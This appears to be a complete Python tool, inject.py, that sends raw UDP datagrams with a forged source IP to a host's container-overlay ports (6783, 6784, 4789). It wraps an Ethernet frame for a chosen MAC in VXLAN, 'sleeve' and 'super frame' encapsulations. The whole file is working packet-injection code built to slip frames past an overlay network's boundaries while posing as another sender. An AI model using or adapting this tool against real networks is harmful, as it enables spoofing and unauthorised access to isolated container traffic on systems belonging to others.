"""Sends datagrams with an Ethernet frame for one MAC to the overlay ports of a host, in every format that a data path reads.

inject.py TARGET SOURCE MAC COUNT

SOURCE is written into the IP header, whoever's address it is. Prints how many datagrams were sent.
"""
import random
import socket
import struct
import sys

target, source, mac, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
PEER = 0x0A0000000002.to_bytes(6, "big")
OWN = 0x0A0000000001.to_bytes(6, "big")
FRAME = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000099") + b"\x88\xb6" + b"injected" * 8


def vxlan(vni):
    return struct.pack(">II", 0x08000000, vni << 8) + FRAME


def sleeve():
    return PEER + PEER + OWN + struct.pack(">H", len(FRAME)) + FRAME


def super_frame():
    record = PEER + OWN + struct.pack(">I", len(FRAME)) + bytes(10) + FRAME
    sender = bytes([PEER[0] | 1]) + PEER[1:]
    return sender + struct.pack(">IHBB", random.getrandbits(32), len(record), 0, 0) + record


def noise():
    return PEER + random.randbytes(random.randrange(200))


KINDS = [
    (6784, lambda: vxlan(0x776561)),
    (6784, lambda: vxlan(random.getrandbits(24))),
    (6783, sleeve),
    (6783, super_frame),
    (6783, noise),
    (4789, lambda: vxlan(0x776561)),
]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
for i in range(count):
    port, make = KINDS[i % len(KINDS)]
    payload = make()
    udp = struct.pack(">HHHH", 6783, port, 8 + len(payload), 0)
    ip = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target)
    )
    try:
        raw.sendto(ip + udp + payload, (target, 0))
        sent += 1
    except OSError:
        pass
print(sent)
